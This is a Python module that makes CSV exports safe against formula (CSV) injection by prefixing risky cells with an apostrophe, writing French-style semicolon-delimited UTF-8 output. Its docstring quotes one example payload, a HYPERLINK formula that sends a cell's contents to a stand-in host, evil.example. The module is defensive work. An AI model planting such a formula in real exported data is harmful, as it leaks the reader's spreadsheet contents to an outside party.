"""CSV exports that a spreadsheet opens safely: no cell is ever taken for a formula.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula (or may become
one) in Excel and LibreOffice: `=HYPERLINK("https://evil.example/?"&A1;"Cliquez")` in a solution's
name would run in the reader's spreadsheet (CSV injection, OWASP). Such a cell gets a leading `'`,
which spreadsheets show as text and do not evaluate. Every `text/csv` response is written with
`csv_document`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MEDIA_TYPE = "text/csv; charset=utf-8"


def safe_cell(value: Any) -> Any:
    """`value` as a spreadsheet must show it: text that would start a formula is prefixed with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value  # numbers, dates and None are never formulas


def csv_document(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV as a French spreadsheet expects it (UTF-8 with a BOM, `;`, CRLF), every cell made safe."""
    out = io.StringIO()
    out.write("\ufeff")
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return out.getvalue()
